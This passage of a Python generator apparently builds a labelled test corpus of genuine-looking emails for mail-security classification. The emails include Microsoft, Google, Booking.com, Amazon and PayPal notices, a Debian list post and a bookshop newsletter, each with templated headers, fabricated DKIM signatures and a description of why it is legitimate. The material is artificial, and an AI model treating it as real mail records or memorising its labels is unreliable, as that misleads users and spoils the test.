Received: from BN8NAM12HT{num(n, 'ht', 100, 250)}.eop-nam12.prod.protection.outlook.com
 (2603:10b6:408:{hx(n, 'v', 3)}::{num(n, 'v2', 10, 99)}) by BN8NAM12HT{num(n, 'ht', 100, 250)}.eop-nam12.prod.protection.outlook.com
 with Microsoft SMTP Server id 15.20.{num(n, 'b', 7900, 8000)}.{num(n, 'b2', 10, 40):03d}; {fmt(t - timedelta(seconds=2))}
From: {who("Microsoft account team", sender)}
To: {rcpt}
Subject: Microsoft account unusual sign-in activity
Date: {fmt(t - timedelta(seconds=3))}
Message-ID: <{guid(n, 'mid').upper()}@az.westus.microsoft.com>
X-Priority: 3
MIME-Version: 1.0"""
    add(Msg(n, "bulk",
            "Genuine Microsoft account 'unusual sign-in activity' notice to a personal domain on Fastmail: "
            "accountprotection.microsoft.com with DKIM/DMARC pass, masked address (be**@), links only to account.live.com",
            rcpt, t, "52.100.164.211", "mail-bn8nam12hn2211.outbound.protection.outlook.com",
            "NAM12-BN8-obe.outbound.protection.outlook.com", sender, "pass",
            [("accountprotection.microsoft.com", "selector1", "pass")], "pass", head,
            alt(n, html2text(html), html, "outlook"), dmarc_p="reject", score=-0.5))


def k_google_security_alert_genuine() -> None:
    n = "b9-google-security-alert-genuine"
    t = at("2025-03-04 18:27:49")
    rcpt = "tom@oakfield-joinery.com"
    mailfrom = f"3{an(n, 'gaia', 40)}@gaia.bounces.google.com"
    sender = "no-reply@accounts.google.com"
    eid = b64(n, 'eid', 40).replace('+', '-').replace('/', '_')
    link = (f"https://accounts.google.com/AccountChooser?Email=tom@oakfield-joinery.com&continue=https://myaccount.google.com/"
            f"alert/nt/{int(t.timestamp() * 1000)}?rfn%3D325%26rfnc%3D1%26eid%3D{eid}%26et%3D0")
    html = f"""<!DOCTYPE html><html lang="en"><head><meta content="email=no" name="format-detection"><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>
<body style="margin:0;padding:0" bgcolor="#FFFFFF"><table width="100%" height="100%" style="min-width:348px" border="0" cellspacing="0" cellpadding="0"><tr align="center"><td>
<table border="0" cellspacing="0" cellpadding="0" style="padding-bottom:20px;max-width:516px;min-width:220px"><tr><td>
<div style="border-style:solid;border-width:thin;border-color:#dadce0;border-radius:8px;padding:40px 20px" align="center">
<img src="https://www.gstatic.com/images/branding/googlelogo/2x/googlelogo_color_74x24dp.png" width="74" height="24" aria-hidden="true" alt="Google">
<div style="font-family:'Google Sans',Roboto,RobotoDraft,Helvetica,Arial,sans-serif;border-bottom:thin solid #dadce0;color:rgba(0,0,0,0.87);line-height:32px;padding-bottom:24px;text-align:center">
<div style="font-size:24px">A new sign-in on Windows</div>
<div><a style="font-size:14px;color:rgba(0,0,0,0.87)">{rcpt}</a></div></div>
<div style="font-family:Roboto-Regular,Helvetica,Arial,sans-serif;font-size:14px;color:rgba(0,0,0,0.87);line-height:20px;padding-top:20px;text-align:center">We noticed a new sign-in to your Google Account on a Windows device. If this was you, you don't need to do anything. If not, we'll help you secure your account.
<div style="padding-top:32px;text-align:center"><a href="{link}" style="font-family:'Google Sans',Roboto,RobotoDraft,Helvetica,Arial,sans-serif;line-height:16px;color:#ffffff;font-weight:400;text-decoration:none;font-size:14px;display:inline-block;padding:10px 24px;background-color:#4184f3;border-radius:5px;min-width:90px">Check activity</a></div></div>
<div style="padding-top:20px;font-size:12px;line-height:16px;color:#5f6368;letter-spacing:0.3px;text-align:center">You can also see security activity at<br><a style="color:rgba(0,0,0,0.87);text-decoration:inherit">https://myaccount.google.com/notifications</a></div>
</div>
<div style="text-align:left"><div style="font-family:Roboto-Regular,Helvetica,Arial,sans-serif;color:rgba(0,0,0,0.54);font-size:11px;line-height:18px;padding-top:12px;text-align:center"><div>You received this email to let you know about important changes to your Google Account and services.</div><div style="direction:ltr">&copy; 2025 Google LLC, <a style="font-family:Roboto-Regular,Helvetica,Arial,sans-serif;color:rgba(0,0,0,0.54);font-size:11px;line-height:18px;padding-top:12px;text-align:center">1600 Amphitheatre Parkway, Mountain View, CA 94043, USA</a></div></div></div>
</td></tr></table></td></tr></table></body></html>
"""
    text = f"""[image: Google]
A new sign-in on Windows

{rcpt}
We noticed a new sign-in to your Google Account on a Windows device. If
this was you, you don't need to do anything. If not, we'll help you secure
your account.
Check activity
<{link}>
You can also see security activity at
https://myaccount.google.com/notifications
You received this email to let you know about important changes to your
Google Account and services.
© 2025 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA
"""
    head = f"""{dkim(n, "accounts.google.com", "20230601", t, "to:from:subject:message-id:feedback-id:date:mime-version:from:to:cc:subject:date:message-id:reply-to")}
X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;
        d=1e100.net; s=20230601; t={int(t.timestamp())}; x={int(t.timestamp()) + 604800};
        h=to:from:subject:message-id:feedback-id:date:mime-version
         :x-gm-message-state:from:to:cc:subject:date:message-id:reply-to;
        bh={b64(n, 'xgbh', 43)}=;
        b={fold(b64(n, 'xgb', 342) + '==', 70, '         ')}
X-Gm-Message-State: {b64(n, 'gms', 66)}
X-Google-Smtp-Source: {b64(n, 'gss2', 66)}
MIME-Version: 1.0
X-Received: by 2002:a05:6214:{hx(n, 'xr1', 4)}:b0:{hx(n, 'xr2', 3)}:{hx(n, 'xr3', 4)}:{hx(n, 'xr4', 3)} with SMTP id {lc(n, 'xr5', 2)}{num(n, 'xr6', 1000, 9999)}.{int(t.timestamp() * 1000) - 1200}; {fmtz(t - timedelta(seconds=1), "America/Los_Angeles")}
Date: {fmt(t - timedelta(seconds=2))}
From: {who("Google", sender)}
To: {rcpt}
Message-ID: <{an(n, 'mid', 22)}@notifications.google.com>
Subject: Security alert
Feedback-ID: account-notifier
X-Notifications: {hx(n, 'xn', 16)}
X-Notifications-Bounce-Info: {b64(n, 'xnb', 60).replace('+', '').replace('/', '')}
Content-Type: multipart/alternative; boundary="{bnd(n, 'gmail')}" """
    head = "\n".join(line for line in head.split("\n") if not line.startswith("Content-Type:"))
    add(Msg(n, "bulk",
            "Genuine Google 'Security alert: a new sign-in on Windows' to a Google Workspace user: accounts.google.com sender "
            "from Google's own servers with DKIM/DMARC pass; 'Check activity' goes to accounts.google.com / myaccount.google.com",
            rcpt, t, "209.85.220.73", "mail-sor-f73.google.com", "mail-sor-f73.google.com", mailfrom, "pass",
            [("accounts.google.com", "20230601", "pass")], "pass", head, alt(n, text, html, "gmail"), dmarc_p="reject"))


def k_cpanel_quota_genuine() -> None:
    n = "b9-cpanel-quota-genuine"
    t = at("2025-01-22 03:14:09")
    rcpt = "info@brightwater-plumbing.co.uk"
    host = "s214.uk-webhost-cloud.net"
    sender = f"cpanel@{host}"
    text = f"""The email account “{rcpt}” is using 4.78 GB of its 5 GB quota (95.6%).

When the mailbox is full, new messages sent to this address will be rejected and returned to their senders.

To free up space, delete old messages (the Trash and Sent folders often hold the most mail), or ask the cPanel account owner to increase the quota:

  Log in to cPanel → Email → Email Accounts → “{rcpt}” → Manage → Allocated Storage Space.

Server: {host}
cPanel account: brightwa

Do not reply to this automated message.

cP
Copyright© 2025 cPanel, L.L.C.
To unsubscribe from these notifications, log in to cPanel and change your Contact Information preferences.
"""
    head = f"""Date: {fmt(t - timedelta(seconds=1), "Europe/London")}
From: {who(f"cPanel on {host}", sender)}
Subject: {ew(f"[brightwater-plumbing.co.uk] Email account “{rcpt}” is almost full (95.6%)")}
To: {rcpt}
Message-Id: <{int(t.timestamp())}.{num(n, 'pid', 10000, 99999)}.{num(n, 'p2', 1, 9)}.cpanel@{host}>
Auto-Submitted: auto-generated
X-Auto-Response-Suppress: All
X-Priority: 2
MIME-Version: 1.0"""
    add(Msg(n, "bulk",
            "Genuine mailbox-quota warning generated by the small business's own cPanel server and delivered locally "
            "(Received from localhost, From cpanel@ the hosting server); no links, tells the user to delete mail or raise the quota in cPanel",
            rcpt, t, "127.0.0.1", "localhost", host, sender, "none", [], "none", head, plain(text), ctry="GB", score=-0.1))


def k_booking_confirmation_genuine() -> None:
    n = "b9-booking-confirmation-genuine"
    t = at("2024-05-02 20:48:16")
    rcpt = "claire@famille-lebreton.fr"
    sender = "noreply@booking.com"
    conf = num(n, "conf", 3000000000, 4999999999)
    pin = num(n, "pin", 1000, 9999)
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f5f5f5">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:BlinkMacSystemFont,-apple-system,'Segoe UI',Roboto,Helvetica,Arial,sans-serif;font-size:14px;color:#262626">
<tr><td style="background:#003580;padding:16px 24px"><img src="https://cf.bstatic.com/static/img/booking_logo_white/0c4f9c1b1a8f3b2c7b4a8d0f2d7a3a2e8c9b8f7c.png" width="140" alt="Booking.com"></td></tr>
<tr><td style="padding:24px">
<h2 style="margin-top:0">Votre réservation est confirmée</h2>
<p>Merci Claire ! Votre réservation à l'<b>Hôtel des Remparts</b> à Saint-Malo est confirmée.</p>
<table cellpadding="4" style="font-size:14px">
<tr><td>Arrivée</td><td>vendredi 24 mai 2024 (à partir de 15:00)</td></tr>
<tr><td>Départ</td><td>dimanche 26 mai 2024 (jusqu'à 11:00)</td></tr>
<tr><td>Chambre</td><td>Chambre Double Supérieure - vue mer</td></tr>
<tr><td>Prix total</td><td>312 &euro; (paiement à l'établissement)</td></tr>
<tr><td>Numéro de confirmation</td><td>{str(conf)[:4]}.{str(conf)[4:7]}.{str(conf)[7:]}</td></tr>
<tr><td>Code PIN</td><td>{pin}</td></tr></table>
<p><a href="https://secure.booking.com/myreservations.fr.html?bn={conf}&amp;pincode={pin}" style="background:#0071c2;color:#ffffff;padding:10px 20px;text-decoration:none;border-radius:4px">Gérer la réservation</a></p>
<p>Annulation gratuite jusqu'au 22 mai 2024 à 23:59.</p>
<p style="font-size:12px;color:#6b6b6b">Booking.com ne vous demandera jamais vos coordonnées bancaires par e-mail, téléphone ou message. <a href="https://www.booking.com/content/terms.fr.html">Conditions</a> &middot; <a href="https://www.booking.com/content/privacy.fr.html">Confidentialité</a><br>
Booking.com B.V., Oosterdokskade 163, 1011 DL Amsterdam, Pays-Bas</p>
</td></tr></table></body></html>
"""
    head = f"""{dkim(n, "booking.com", "bk", t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type")}
Received: from app-{hx(n, 'app', 6)}.ams4.prod.booking.com (app-{hx(n, 'app', 6)}.ams4.prod.booking.com [10.{num(n, 'i1', 1, 250)}.{num(n, 'i2', 1, 250)}.{num(n, 'i3', 1, 250)}])
\tby mailout-{num(n, 'mo', 100, 299)}.booking.com (Postfix) with ESMTP id 4{an(n, 'pq', 13)}
\tfor <{rcpt}>; {fmtz(t - timedelta(seconds=1), "Europe/Amsterdam")}
From: {who("Booking.com", sender)}
To: {rcpt}
Subject: {ew("Votre réservation est confirmée : Hôtel des Remparts, Saint-Malo")}
Date: {fmt(t - timedelta(seconds=2), "Europe/Amsterdam")}
Message-ID: <{hx(n, 'mid', 32)}@booking.com>
Feedback-ID: confirmation:booking.com
MIME-Version: 1.0"""
    add(Msg(n, "bulk",
            "Genuine Booking.com reservation confirmation (hotel in Saint-Malo, pay at the property, confirmation number and "
            "PIN) to a personal domain on OVH: booking.com sender with DKIM/DMARC pass, links only to booking.com",
            rcpt, t, "5.57.20.45", "mailout-202.booking.com", "mailout-202.booking.com", sender, "pass",
            [("booking.com", "bk", "pass")], "pass", head, alt(n, html2text(html), html, "java"), dmarc_p="reject",
            ctry="NL", lang="fr"))


def k_debian_user_post() -> None:
    n = "b9-debian-user-post"
    t = at("2024-11-05 14:37:22")
    rcpt = "ben@bcarraway.net"
    mailfrom = "bounce-debian-user=ben=bcarraway.net@lists.debian.org"
    sender = "tomas.lindgren@posteo.de"
    mid = f"<{hx(n, 'mid', 12)}.{hx(n, 'mid2', 6)}@posteo.de>"
    irt = f"<Zy{an(n, 'irt', 14)}@example-host.lan>".replace("example-host.lan", "yggdrasil.home")
    text = """On Tue, Nov 05, 2024 at 09:12:40AM -0500, Greg wrote:
> Did you check whether wpa_supplicant is actually started before
> systemd-networkd tries to bring the link up?

That was it, thanks. After the upgrade to bookworm the interface had been
renamed from wlan0 to wlp2s0, so wpa_supplicant@wlan0.service never started:

  $ systemctl status wpa_supplicant@wlan0.service
  ○ wpa_supplicant@wlan0.service - WPA supplicant daemon (interface-specific version)
       Loaded: loaded (/lib/systemd/system/wpa_supplicant@.service; enabled)
       Active: inactive (dead)

I renamed /etc/wpa_supplicant/wpa_supplicant-wlan0.conf to
wpa_supplicant-wlp2s0.conf, enabled wpa_supplicant@wlp2s0 and changed the
Name= line in /etc/systemd/network/25-wireless.network. Works after reboot.

The predictable interface names are documented here, for anyone else who
hits this:
https://wiki.debian.org/NetworkInterfaceNames

Tomas
"""
    head = f"""Received: from localhost (localhost [127.0.0.1])
\tby bendel.debian.org (Postfix) with QMQP
\tid {hx(n, 'qm', 11).upper()}; {fmtz(t - timedelta(seconds=2), "UTC")}
X-Mailbox-Line: From debian-user-request@lists.debian.org  {t:%a %b %d %H:%M:%S %Y}
Old-Return-Path: <{sender}>
X-Spam-Checker-Version: SpamAssassin 3.4.6 (2021-04-09) on bendel.debian.org
X-Spam-Level: 
X-Spam-Status: No, score=-2.1 required=4.0 tests=DKIM_SIGNED,DKIM_VALID,
\tDKIM_VALID_AU,DKIM_VALID_EF,LDO_WHITELIST,RCVD_IN_DNSWL_MED,SPF_HELO_NONE,
\tSPF_PASS autolearn=unavailable autolearn_force=no version=3.4.6
X-Original-To: lists-debian-user@bendel.debian.org
Delivered-To: lists-debian-user@bendel.debian.org
Received: from mout01.posteo.de (mout01.posteo.de [185.67.36.65])
\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)
\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)
\t(No client certificate requested)
\tby bendel.debian.org (Postfix) with ESMTPS id {hx(n, 'bq', 11).upper()}
\tfor <debian-user@lists.debian.org>; {fmtz(t - timedelta(seconds=4), "UTC")}
{dkim(n, "posteo.de", "2017", t - timedelta(seconds=5), "Date:From:To:Subject:Message-ID:In-Reply-To:References:MIME-Version:Content-Type:From")}
Received: from submission (posteo.de [185.67.36.169])
\tby mout01.posteo.de (Postfix) with ESMTPS id 4{an(n, 'pq', 10)}
\tfor <debian-user@lists.debian.org>; {fmtz(t - timedelta(seconds=5), "Europe/Berlin")}
Received: from customer (localhost [127.0.0.1])
\tby submission (posteo.de) with ESMTPSA id 4{an(n, 'pq2', 10)}
\tfor <debian-user@lists.debian.org>; {fmtz(t - timedelta(seconds=6), "Europe/Berlin")}
Date: {fmt(t - timedelta(seconds=7), "Europe/Stockholm")}
From: {who("Tomas Lindgren", sender)}
To: debian-user@lists.debian.org
Subject: Re: wifi not coming up after upgrade to bookworm
Message-ID: {mid}
Mail-Followup-To: debian-user@lists.debian.org
References: {irt}
In-Reply-To: {irt}
MIME-Version: 1.0
Content-Disposition: inline
User-Agent: Mutt/2.2.12 (2023-09-09)
X-Rc-Virus: 2007-09-13_01
X-Rc-Spam: 2008-11-04_01
Resent-Message-ID: <{an(n, 'rmid', 11)}@bendel>
Resent-From: debian-user@lists.debian.org
X-Mailing-List: <debian-user@lists.debian.org> archive/latest/{num(n, 'arch', 810000, 819999)}
X-Loop: debian-user@lists.debian.org
List-Id: <debian-user.lists.debian.org>
List-URL: <https://lists.debian.org/debian-user/>
List-Post: <mailto:debian-user@lists.debian.org>
List-Help: <mailto:debian-user-request@lists.debian.org?subject=help>
List-Subscribe: <mailto:debian-user-request@lists.debian.org?subject=subscribe>
List-Unsubscribe: <mailto:debian-user-request@lists.debian.org?subject=unsubscribe>
Precedence: list
Resent-Sender: debian-user-request@lists.debian.org
List-Archive: https://lists.debian.org/msgid-search/{mid[1:-1]}
Resent-Date: {fmt(t - timedelta(seconds=1), "UTC")}"""
    add(Msg(n, "bulk",
            "A debian-user mailing-list post (reply in a thread about Wi-Fi after an upgrade) delivered by lists.debian.org "
            "with full list headers; the poster's posteo.de DKIM signature survives and aligns, SPF passes for the list bounce address",
            rcpt, t, "82.195.75.100", "bendel.debian.org", "bendel.debian.org", mailfrom, "pass",
            [("posteo.de", "2017", "pass")], "pass", head, plain(text, "8bit"), dmarc_p="none", ctry="DE", score=-1))


def k_mailchimp_bookshop_newsletter() -> None:
    n = "b9-mailchimp-bookshop-newsletter"
    t = at("2025-04-10 16:02:33")
    rcpt = "m.reyes@reyes-lab.dev"
    u = hx(n, 'u', 25)
    cid = hx(n, 'cid', 10)
    e = hx(n, 'e', 10)
    lid = hx(n, 'lid', 10)
    server = f"mail{num(n, 'srv', 100, 250)}.atl{num(n, 'atl', 100, 260)}.mcdlv.net"
    mailfrom = f"bounce-mc.us21_{num(n, 'acct', 100000000, 199999999)}.{num(n, 'c', 1000000, 9999999)}-{e}@{server}"
    sender = "hello@kettlebooks.co.uk"

    def click(k: int) -> str:
        return f"https://kettlebooks.us21.list-manage.com/track/click?u={u}&amp;id={hx(n, f'id{k}', 10)}&amp;e={e}"

    img = f"https://mcusercontent.com/{u}/images/{guid(n, 'img')}.jpg"
    html = f"""<!doctype html><html><head><meta charset="UTF-8"><title>April at the Kettle</title></head>
<body style="margin:0;background:#faf6ef">
<center><table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Georgia,serif;font-size:16px;color:#3b2f2a">
<tr><td><a href="{click(1)}"><img src="{img}" width="600" alt="The Kettle Bookshop" style="display:block"></a></td></tr>
<tr><td style="padding:24px">
<h1 style="font-size:26px">April at the Kettle</h1>
<p>Hello book lovers,</p>
<p>Spring has finally reached the high street, and so have the new releases. Here's what's happening this month:</p>
<p><b>Author evening - Thursday 24 April, 7pm.</b> Local writer Ellen Marsh reads from her new novel <i>The Salt Road</i>. Tickets are &pound;5, redeemable against the book. <a href="{click(2)}">Book your place</a></p>
<p><b>Children's story hour</b> is back every Saturday at 10:30 - free, no booking needed.</p>
<p><b>Staff picks:</b> our April table has twelve paperbacks at 3-for-2. <a href="{click(3)}">See the list on our website</a></p>
<p>See you soon,<br>Hannah &amp; the Kettle team</p>
</td></tr>
<tr><td style="padding:16px 24px;font-family:Arial,sans-serif;font-size:11px;color:#8a7f78;background:#f3ede4">
The Kettle Bookshop &middot; 7 Bridge Street &middot; Ludlow &middot; SY8 1BP &middot; United Kingdom<br>
You are receiving this because you signed up at our till or on our website.<br>
<a href="https://kettlebooks.us21.list-manage.com/profile?u={u}&amp;id={lid}&amp;e={e}&amp;c={cid}" style="color:#8a7f78">Update your preferences</a> or <a href="https://kettlebooks.us21.list-manage.com/unsubscribe?u={u}&amp;id={lid}&amp;e={e}&amp;c={cid}" style="color:#8a7f78">unsubscribe</a><br>
<a href="http://eepurl.com/{an(n, 'ee', 6)}"><img src="https://cdn-images.mailchimp.com/monkey_rewards/intuit-mc-rewards-text-dark.png" width="139" alt="Intuit Mailchimp"></a>
</td></tr></table></center>
<img src="https://kettlebooks.us21.list-manage.com/track/open.php?u={u}&amp;id={cid}&amp;e={e}" height="1" width="1" alt="">
</body></html>
"""
    text = html2text(html.replace("&amp;", "&"))
    head = f"""{dkim(n, "kettlebooks.co.uk", "k2", t, "Subject:From:Reply-To:To:Date:Message-ID:List-ID:List-Unsubscribe:List-Unsubscribe-Post:Content-Type:MIME-Version:CC")}
{dkim(n, "mcdlv.net", "k2", t, "Subject:From:Reply-To:To:Date:Message-ID:List-ID:List-Unsubscribe:List-Unsubscribe-Post:Content-Type:MIME-Version:CC", salt="mc")}
Received: from localhost (localhost [127.0.0.1])
\tby {server} (Mailchimp) with ESMTP id 4{an(n, 'pq', 13)}
\tfor <{rcpt}>; {fmtz(t - timedelta(seconds=1), "UTC")}
Subject: April at the Kettle: author evening & spring reads
From: {who("The Kettle Bookshop", sender)}
Reply-To: {who("The Kettle Bookshop", sender)}
To: <{rcpt}>
Date: {fmt(t - timedelta(seconds=2))}
Message-ID: <{hx(n, 'mcmid', 32)}@mail{num(n, 'srv', 100, 250)}.atl{num(n, 'atl', 100, 260)}.mcdlv.net>
X-Mailer: Mailchimp Mailer - **CID{cid}{e}**
X-Campaign: mailchimp{u}.{cid}
X-campaignid: mailchimp{u}.{cid}
X-Report-Abuse: Please report abuse for this campaign here: https://mailchimp.com/contact/abuse/?u={u}&id={cid}&e={e}
X-MC-User: {u}
Feedback-ID: {num(n, 'fb', 100000000, 199999999)}:{num(n, 'fb', 100000000, 199999999)}.{num(n, 'c', 1000000, 9999999)}:us21:mc
List-ID: {u}mc list <{u}.{num(n, 'lx', 100000, 999999)}.list-id.mcsv.net>
X-Accounttype: pd
List-Unsubscribe: <https://kettlebooks.us21.list-manage.com/unsubscribe?u={u}&id={lid}&e={e}&c={cid}>,
 <mailto:unsubscribe-mc.us21_{u}.{cid}-{e}@unsubscribe.mailchimpapp.net?subject=unsubscribe>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
MIME-Version: 1.0"""
    add(Msg(n, "bulk",
            "A small bookshop's monthly Mailchimp newsletter (events, staff picks) to a personal domain on Proton: every link is "
            "a list-manage.com click tracker, with open pixel, List-Unsubscribe one-click, and DKIM aligned with the shop's domain",
            rcpt, t, f"198.2.{num(n, 'ip', 128, 191)}.{num(n, 'ip2', 1, 250)}", server, server, mailfrom, "pass",
            [("kettlebooks.co.uk", "k2", "pass"), ("mcdlv.net", "k2", "pass")], "pass", head,
            alt(n, text, html, "mimepart"), dmarc_p="none"))


def k_amazon_shipped_genuine() -> None:
    n = "b9-amazon-shipped-genuine"
    t = at("2023-11-23 11:27:54")
    rcpt = "dave@brightwater-plumbing.co.uk"
    mailfrom = f"{t:%Y%m%d%H%M%S}{hx(n, 'bn', 16)}@bounces.amazon.co.uk"
    sender = "shipment-tracking@amazon.co.uk"
    order = f"203-{num(n, 'o1', 1000000, 9999999)}-{num(n, 'o2', 1000000, 9999999)}"

    def wrap(target: str, k: int) -> str:
        from urllib.parse import quote
        return (f"https://www.amazon.co.uk/gp/r.html?C={an(n, 'C', 13).upper()}&amp;K={an(n, 'K', 14).upper()}&amp;"
                f"M=urn:rtn:msg:{t:%Y%m%d%H%M%S}{hx(n, 'urn', 16)}&amp;R={an(n, f'R{k}', 10).upper()}&amp;T=C&amp;"
                f"U={quote(target, safe='')}&amp;H={an(n, f'H{k}', 30)}&amp;ref_=pe_{num(n, 'pe', 100000, 999999)}_{num(n, 'pe2', 100000000, 999999999)}")

    track = f"https://www.amazon.co.uk/gp/your-account/ship-track?ie=UTF8&orderId={order}&shipmentId={an(n, 'sh', 9)}"
    details = f"https://www.amazon.co.uk/gp/your-account/order-details?ie=UTF8&orderID={order}"
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="font-family:'Amazon Ember',Arial,sans-serif;font-size:14px;color:#0f1111">
<tr><td style="padding:16px 20px"><img src="https://m.media-amazon.com/images/G/02/x-locale/common/logo._CB485930785_.png" width="100" alt="amazon.co.uk"></td></tr>
<tr><td style="padding:0 20px">
<h2 style="font-weight:normal">Dispatched</h2>
<p>Hi Dave, your package has been dispatched and is on its way.</p>
<p><b>Arriving Friday 24 November</b></p>
<p><a href="{wrap(track, 1)}" style="background:#ffd814;color:#0f1111;padding:9px 20px;border-radius:20px;text-decoration:none">Track package</a></p>
<p>Bosch Professional 18V drill/driver bit set, 35 pieces<br>Quantity: 1</p>
<p>Order # {order} &nbsp; <a href="{wrap(details, 2)}">View or manage order</a></p>
<p style="font-size:12px;color:#565959">Delivery to: Dave Hollis, Harrowfield, HF3 2QT<br>
&copy;2023 Amazon.com, Inc. or its affiliates. Amazon and all related marks are trademarks of Amazon.com, Inc. or its affiliates. Amazon EU S.à r.l., UK Branch, 1 Principal Place, Worship Street, London EC2A 2FA.<br>
This email was sent from a notification-only address that cannot accept incoming email. Please do not reply to this message.</p>
</td></tr></table></body></html>
"""
    head = f"""{dkim(n, "amazon.co.uk", "5mm5zxunmxiwjikkxdikhchcyhyttcon", t, "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type")}
{dkim(n, "amazonses.com", "shh3fegwg5fppqsuzphvschd53n6ihuv", t, "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type:Feedback-ID", salt="ses")}
Date: {fmt(t - timedelta(seconds=2))}
From: {who("Amazon.co.uk", sender)}
To: {rcpt}
Message-ID: <0102018bfc{hx(n, 'sesmid', 6)}-{guid(n, 'sesg')}-000000@eu-west-1.amazonses.com>
Subject: {ew("Dispatched: “Bosch Professional 18V drill/driver…” and 0 more items")}
MIME-Version: 1.0
Feedback-ID: 1.eu-west-1.{b64(n, 'fb', 43).replace('/', '').replace('+', '')}=:AmazonSES
X-SES-Outgoing: {t:%Y.%m.%d}-54.240.4.{num(n, 'ses', 1, 40)}"""
    add(Msg(n, "bulk",
            "Genuine Amazon.co.uk 'Dispatched' notification with order number to a small business on cPanel: amazon.co.uk "
            "sender via Amazon SES with DKIM (amazon.co.uk and amazonses.com) and DMARC pass; links go through amazon.co.uk's own /gp/r.html redirector",
            rcpt, t, f"54.240.4.{num(n, 'ses', 1, 40)}", f"b224-{num(n, 'ses', 1, 40)}.smtp-out.eu-west-1.amazonses.com",
            f"b224-{num(n, 'ses', 1, 40)}.smtp-out.eu-west-1.amazonses.com", mailfrom, "pass",
            [("amazon.co.uk", "5mm5zxunmxiwjikkxdikhchcyhyttcon", "pass"),
             ("amazonses.com", "shh3fegwg5fppqsuzphvschd53n6ihuv", "pass")], "pass", head,
            alt(n, html2text(html.replace("&amp;", "&")), html, "java"), dmarc_p="quarantine", ctry="IE", score=-0.1))


def k_paypal_ontvangst_genuine() -> None:
    n = "b9-paypal-ontvangst-genuine"
    t = at("2024-12-03 19:44:58")
    rcpt = "anke@vos-familie.nl"
    sender = "service@paypal.nl"
    tx = f"{an(n, 'tx', 17).upper()}"
    html = f"""<html><head><meta charset="utf-8"></head><body style="font-family:'PayPal Sans Big',Helvetica,Arial,sans-serif;font-size:15px;color:#001435">
<table width="600" align="center"><tr><td style="padding:20px">
<img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="42" alt="PayPal">
<p>Hallo Anke Vos,</p>
<h2>U hebt &euro; 42,50 EUR betaald aan De Groene Vingers Tuincentrum</h2>
<p>Het kan even duren voordat deze transactie in uw rekeningoverzicht verschijnt.</p>
<table cellpadding="4" style="font-size:14px">
<tr><td>Transactie-ID</td><td><a href="https://www.paypal.com/myaccount/transactions/details/{tx}">{tx}</a></td></tr>
<tr><td>Transactiedatum</td><td>3 december 2024</td></tr>
<tr><td>Verkoper</td><td>De Groene Vingers Tuincentrum<br>info@degroenevingers.nl</td></tr>
<tr><td>Bestelling</td><td>Kerststerren (3 st.) en potgrond 40 L</td></tr>
<tr><td><b>Totaal</b></td><td><b>&euro; 42,50 EUR</b></td></tr></table>
<p style="font-size:12px;color:#6c7378">Hulp nodig? Ga naar het <a href="https://www.paypal.com/nl/cshelp/personal">Helpcentrum</a>.<br>
PayPal doet er alles aan om u te beschermen tegen frauduleuze e-mails. E-mails van PayPal bevatten altijd uw volledige naam.<br>
PayPal (Europe) S.à r.l. et Cie, S.C.A., 22-24 Boulevard Royal, L-2449 Luxemburg</p>
</td></tr></table></body></html>
"""
    head = f"""{dkim(n, "paypal.nl", "pp-dkim1", t, "Date:Message-ID:From:To:Subject:Content-Type:MIME-Version")}
Received: from paypal.com (qs-pp-mta-2b.qs.paypal.com [10.75.{num(n, 'q1', 1, 250)}.{num(n, 'q2', 1, 250)}])
\tby mx2.slc.paypal.com (Postfix) with ESMTP id {hx(n, 'pp', 11).upper()}
\tfor <{rcpt}>; {fmtz(t - timedelta(seconds=1), "America/Los_Angeles")}
Date: {fmt(t - timedelta(seconds=2), "America/Los_Angeles")}
Message-ID: <{hx(n, 'ppmid', 32)}@paypal.nl>
From: {who("PayPal", sender)}
To: {who("Anke Vos", rcpt)}
Subject: Ontvangstbewijs voor uw betaling aan De Groene Vingers Tuincentrum
X-Email-Type-Id: PPC000628
X-PP-REQUESTED-TIME: {int(t.timestamp() * 1000) - 3120}
X-PP-Email-transmission-Id: {guid(n, 'ppt')}
PP-Correlation-Id: {hx(n, 'ppc', 13)}
Content-Language: nl_NL
MIME-Version: 1.0"""
    add(Msg(n, "clean",
            "Genuine PayPal payment receipt in Dutch (€ 42,50 to a garden centre) to a personal domain on Proton: paypal.nl "
            "sender from PayPal's own servers with DKIM/DMARC pass, greets the customer by full name, links to paypal.com",
            rcpt, t, "173.0.84.227", "mx2.slc.paypal.com", "mx2.slc.paypal.com", sender, "pass",
            [("paypal.nl", "pp-dkim1", "pass")], "pass", head, alt(n, html2text(html), html, "java"), dmarc_p="reject",
            lang="nl"))


def k_xfinity_bill_genuine() -> None:
    n = "b9-xfinity-bill-genuine"
    t = at("2025-07-08 13:05:40")
    rcpt = "robert.haines@comcast.net"
    sender = "online.communications@alerts.comcast.net"
    html = """<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f2f2f2">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Arial,Helvetica,sans-serif;font-size:15px;color:#141417">
<tr><td style="padding:20px 24px"><img src="https://images.xfinity.com/email/xfinity-logo-black.png" width="110" alt="Xfinity"></td></tr>
<tr><td style="padding:0 24px 24px">
<h2>Your bill is ready</h2>
<p>Hi Robert,</p>
<p>Your Xfinity bill for account ending in 4381 is now available.</p>
<table cellpadding="4" style="font-size:15px"><tr><td>Amount due</td><td><b>$112.48</b></td></tr>
<tr><td>Due date</td><td>July 28, 2025</td></tr></table>
<p>You're enrolled in automatic payments, so there's nothing you need to do. We'll charge your payment method on file on the due date.</p>
